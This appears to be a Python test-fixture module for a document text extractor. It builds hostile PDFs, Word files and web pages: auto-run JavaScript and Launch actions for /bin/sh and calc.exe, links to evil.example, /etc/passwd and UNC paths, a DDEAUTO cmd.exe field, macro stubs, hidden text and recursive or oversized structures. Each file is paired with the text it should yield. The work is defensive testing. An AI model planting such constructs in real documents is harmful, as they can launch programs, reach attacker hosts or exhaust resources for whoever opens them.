"""Files that would do something where they are opened, or show what nobody sees: programs, addresses, other files."""

from __future__ import annotations

import io
import zipfile

from tests.hostile import bombs, pdfs

FIGURE = "全年生产总值完成270亿元"
_SCRIPT = rb"<< /S /JavaScript /JS (app.launchURL\('http://evil.example/'\); while\(1\);) >>"
_SH = b"<< /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_MAPPED = (
    b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>"
)
_MAP = (
    b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange %b endcmap"
)


def pdf(
    catalogue: bytes = b"",
    page: bytes = b"",
    *more: bytes,
    content: bytes = pdfs.stored(pdfs.DRAWN),
    font: bytes = _FONT,
) -> bytes:
    """A page of a line, with more in its catalogue, its page and among its objects (from the sixth on)."""
    return pdfs.pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> %b >>" % page,
            content,
            font,
            *more,
        ]
    )


def mapped(told: bytes) -> bytes:
    """A page of 2,000 times one glyph, of which a map tells what it is."""
    return pdf(
        b"",
        b"",
        pdfs.flate(_MAP % told),
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity)"
        b" /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /X /Flags 4 >> >>",
        content=pdfs.stored(b"BT /F1 9 Tf 10 700 Td <" + b"0001" * 2000 + b"> Tj ET"),
        font=_MAPPED,
    )


def _chain(data: bytes) -> bytes:
    """The file, whose table of objects goes on in itself."""
    start = data.rindex(b"startxref\n") + 10
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + data[start : data.index(b"\n", start)])


READ, NOT = "work of the year", ""
PDFS: dict[str, tuple[bytes, str]] = {
    "a script when it is opened": (
        pdf(b"/OpenAction %b /AA << /WC %b >>" % (_SCRIPT, _SCRIPT), b"/AA << /O %b >>" % _SCRIPT),
        READ,
    ),
    "a program when it is opened": (pdf(b"/OpenAction %b" % _SH), READ),
    "an address when it is opened": (pdf(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"), READ),
    "another file when it is opened": (
        pdf(rb"/OpenAction << /S /GoToR /F (\\\\evil.example\\a.pdf) /D [0 /Fit] >>"),
        READ,
    ),
    "files within": (
        pdf(
            b"/Names << /JavaScript << /Names [(a) %b] >> /EmbeddedFiles << /Names [(a) 6 0 R] >> >>" % _SCRIPT,
            b"",
            b"<< /Type /Filespec /F (../../a.txt) /EF << /F 7 0 R >> >>",
            pdfs.stored(b"EMBEDDED", b"/Type /EmbeddedFile"),
        ),
        READ,
    ),
    "a text that is another file": (pdf(content=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"), NOT),
    "a text that is an address": (
        pdf(content=b"<< /Length 0 /F << /FS /URL /F (http://evil.example/a) >> >>\nstream\n\nendstream"),
        NOT,
    ),
    "a form with a type from elsewhere": (
        pdf(
            b"/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true",
            b"",
            pdfs.stored(
                b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'
            ),
        ),
        READ,
    ),
    "a million links": (
        pdf(
            b"",
            b"/Annots [" + b"6 0 R " * 1_000_000 + b"]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example) >> >>",
        ),
        READ,
    ),
    "an outline of itself": (
        pdf(
            b"/Outlines 6 0 R /PageMode /UseOutlines",
            b"",
            b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R >>",
        ),
        READ,
    ),
    "a glyph that is a megabyte": (mapped(b"1 beginbfchar <0001> <" + b"5e74" * 500_000 + b"> endbfchar"), NOT),
    "glyphs that act": (mapped(b"1 beginbfchar <0001> <202E001B005B0033> endbfchar"), "[3"),
    "a map of everything, over and over": (
        mapped(b"9 beginbfrange " + b"<0000> <FFFF> <4e00> " * 100_000 + b"endbfrange"),
        "",
    ),
    "a map of itself": (mapped(b"/X usecmap 1 beginbfchar <0001> <5e74> endbfchar"), "年年"),
    "objects elsewhere": (pdf().replace(b"startxref\n", b"startxref\n99999"), READ),
    "objects before the beginning": (pdf().replace(b"startxref\n", b"startxref\n-"), READ),
    "a table of itself": (_chain(pdf()), READ),
    "objects in themselves": (
        pdfs.pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /ObjStm /N 1 /First 4 /Length 33 /Extends 3 0 R >>"
                b"\nstream\n3 0 << /Type /Page /Parent 2 0 R >>\nendstream",
            ]
        ),
        NOT,
    ),
    "as long as itself": (pdf(content=b"<< /Length 4 0 R >>\nstream\n" + pdfs.DRAWN + b"\nendstream"), READ),
    "a font of itself": (
        pdf(
            font=b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 5 0 R"
            b" /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>"
        ),
        NOT,
    ),
}
"""PDFs, and a word that is read in each; where there is none, it may be refused."""


def _mark(part: str) -> str:
    """A mark of a field."""
    return f'<w:r><w:fldChar w:fldCharType="{part}"/></w:r>'


def _run(text: str, properties: str = "") -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>"


_CALLED = '<w:footnoteReference w:id="1"/>'
_SHOWN, _STYLED = '<w:vanish w:val="0"/>', '<w:rStyle w:val="H"/>'
_BASED = '<w:rStyle w:val="I"/>'


def _alternate(text: str) -> str:
    box = f"<w:txbxContent><w:p>{_run(text)}</w:p></w:txbxContent>"
    return (
        '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="wps">{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback></mc:AlternateContent></w:r>'
    )


def _linked() -> bytes:
    """A document with parts that lie elsewhere, of every kind, and parts that would run."""
    kinds = ("aFChunk", "subDocument", "attachedTemplate", "image", "oleObject", "numbering", "styles", "footnotes")
    targets = ("http://evil.example/a", "file:///etc/passwd", r"\\evil.example\share\a")
    links = "".join(
        f'<Relationship Id="r{at}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{targets[at % 3]}" TargetMode="External"/>'
        for at, kind in enumerate(kinds)
    )
    body = (
        bombs.TEXT
        + '<w:altChunk r:id="r0" xmlns:r="r"/><w:subDoc r:id="r1" xmlns:r="r"/><w:p><w:r><w:object><o:OLEObject'
        ' xmlns:o="o" xmlns:r="r" Type="Link" ProgID="Excel.Sheet.8" r:id="r4"/></w:object></w:r></w:p>'
    )
    held = io.BytesIO(bombs.docx(body))
    with zipfile.ZipFile(held, "a") as parts:
        for name in ("word/_rels/document.xml.rels", "_rels/.rels", "word/_rels/settings.xml.rels"):
            parts.writestr(name, f"<Relationships>{links}</Relationships>")
        parts.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 MACRO")
        parts.writestr("word/afchunk.mht", "CHUNK")
        parts.writestr("word/comments.xml", "<w:t>COMMENT</w:t>")
    return held.getvalue()


DOCX: dict[str, tuple[bytes, str]] = {
    "parts that lie elsewhere": (_linked(), FIGURE),
    "deleted and put in": (
        bombs.docx(
            bombs.TEXT + f"<w:p><w:del><w:r><w:delText>UNSEEN</w:delText></w:r>{_run('UNSEEN')}</w:del>"
            f"<w:ins>{_run('甲')}</w:ins></w:p>"
        ),
        f"{FIGURE}\n甲",
    ),
    "moved": (
        bombs.docx(
            f"<w:p><w:moveFrom>{_run('UNSEEN')}</w:moveFrom></w:p>{bombs.TEXT}<w:p><w:moveTo>{_run('乙')}</w:moveTo></w:p>"
        ),
        f"{FIGURE}\n乙",
    ),
    "a row that is deleted": (
        bombs.docx(
            f"{bombs.TEXT}<w:tbl><w:tr><w:trPr><w:del/></w:trPr><w:tc><w:p>{_run('UNSEEN')}</w:p></w:tc></w:tr>"
            f"<w:tr><w:tc><w:p>{_run('丙')}</w:p></w:tc></w:tr></w:tbl>"
        ),
        f"{FIGURE}\n丙",
    ),
    "hidden": (
        bombs.docx(
            f"{bombs.TEXT}<w:p>{_run('UNSEEN', '<w:vanish/>')}{_run('丁', _SHOWN)}{_run('UNSEEN', _STYLED)}"
            f"{_run('戊', _STYLED + _SHOWN)}</w:p>",
            styles='<w:style w:type="character" w:styleId="H"><w:rPr><w:vanish/></w:rPr></w:style>',
        ),
        f"{FIGURE}\n丁戊",
    ),
    "hidden by the style of its paragraph, and by one that a style is based on": (
        bombs.docx(
            f'{bombs.TEXT}<w:p><w:pPr><w:pStyle w:val="Q"/></w:pPr>{_run("UNSEEN")}{_run("丁", _SHOWN)}</w:p>'
            f"<w:p>{_run('戊')}{_run('UNSEEN', _BASED)}</w:p>"
            f'<w:tbl><w:tr><w:tc><w:p><w:pPr><w:pStyle w:val="Q"/></w:pPr>{_run("UNSEEN")}</w:p></w:tc><w:tc>'
            f"<w:p>{_run('己')}</w:p></w:tc></w:tr></w:tbl>",
            styles='<w:style w:type="character" w:styleId="I"><w:basedOn w:val="H"/></w:style>'
            '<w:style w:type="character" w:styleId="H"><w:basedOn w:val="I"/><w:rPr><w:vanish/></w:rPr></w:style>'
            '<w:style w:type="paragraph" w:styleId="Q"><w:basedOn w:val="P"/></w:style>'
            '<w:style w:type="paragraph" w:styleId="P"><w:rPr><w:vanish/></w:rPr></w:style>',
        ),
        f"{FIGURE}\n丁\n戊\n|  | 己 |\n| --- | --- |",
    ),
    "a row that is hidden, a cell that is deleted": (
        bombs.docx(
            f"{bombs.TEXT}<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p>{_run('UNSEEN')}</w:p></w:tc></w:tr>"
            f"<w:tr><w:tc><w:tcPr><w:cellDel/></w:tcPr><w:p>{_run('UNSEEN')}</w:p></w:tc>"
            f"<w:tc><w:p>{_run('丙')}</w:p></w:tc></w:tr></w:tbl>"
        ),
        f"{FIGURE}\n丙",
    ),
    "a field in the instruction of a field": (
        bombs.docx(
            f"{bombs.TEXT}<w:p>{_mark('begin')}<w:r><w:instrText>IF </w:instrText></w:r>{_mark('begin')}"
            f"<w:r><w:instrText>PAGE</w:instrText></w:r>{_mark('separate')}{_run('UNSEEN')}{_mark('end')}{_run('UNSEEN')}"
            f"{_mark('separate')}{_run('己')}{_mark('end')}{_run('庚')}{_mark('end')}{_mark('separate')}{_run('辛')}</w:p>"
        ),
        f"{FIGURE}\n己庚辛",
    ),
    "a field": (
        bombs.docx(
            f'{bombs.TEXT}<w:p><w:r><w:instrText>UNSEEN DDEAUTO cmd.exe INCLUDETEXT "http://evil.example"</w:instrText>'
            f'</w:r><w:fldSimple w:instr="UNSEEN INCLUDEPICTURE http://evil.example/a.png">{_run("己")}</w:fldSimple></w:p>'
        ),
        f"{FIGURE}\n己",
    ),
    "notes that nobody calls, and one that calls itself": (
        bombs.docx(
            f'{bombs.TEXT}<w:p>{_run("甲")}<w:r>{_CALLED}<w:footnoteReference w:id="x"/></w:r></w:p>',
            footnotes=f'<w:footnote w:id="1"><w:p>{_run("=乙")}<w:r>{_CALLED}</w:r></w:p></w:footnote>'
            f'<w:footnote w:id="2"><w:p>{_run("UNSEEN")}</w:p></w:footnote>',
        ),
        f"{FIGURE}\n甲[1]\n注释\n[1]=乙[1]",
    ),
    "a text box": (bombs.docx(f"<w:p>{_run('庚')}{_alternate('辛')}{_run('壬')}</w:p>"), "庚壬\n辛"),
}
"""Word documents, and their whole text."""

_PAGE = f"""<html><head><style>p{{content:"UNSEEN"; background:url(http://evil.example/b)}}</style>
<script>UNSEEN; fetch("http://evil.example/")</script><script src=http://evil.example/a.js></script>
<meta http-equiv=refresh content="0;url=http://evil.example/UNSEEN"><base href="http://evil.example/">
<link rel=stylesheet href=x.css></head><body onload="UNSEEN"><!-- UNSEEN --><!--[if IE]><p>UNSEEN</p><![endif]-->
<p>{FIGURE}</p><img src=http://evil.example/i.png><img src="data:image/png;base64,{"UNSEEN" * 100_000}">
<iframe src=http://evil.example srcdoc="<p>UNSEEN"></iframe><object data="data:text/html,UNSEEN"></object>
<template>UNSEEN</template><svg><script>UNSEEN</script></svg><?php echo UNSEEN ?><script>UNSEEN"""
HTML: dict[str, tuple[bytes, str]] = {
    "a page with all of it": (_PAGE.encode(), FIGURE),
    "marks of a hundred thousand": (b"<html><svg>" + b"<foreignObject>" * 100_000, NOT),
    "lists of a hundred thousand": (b"<html>" + b"<select><option>" * 100_000, NOT),
}
"""Web pages, and their whole text; where there is none, they are refused."""
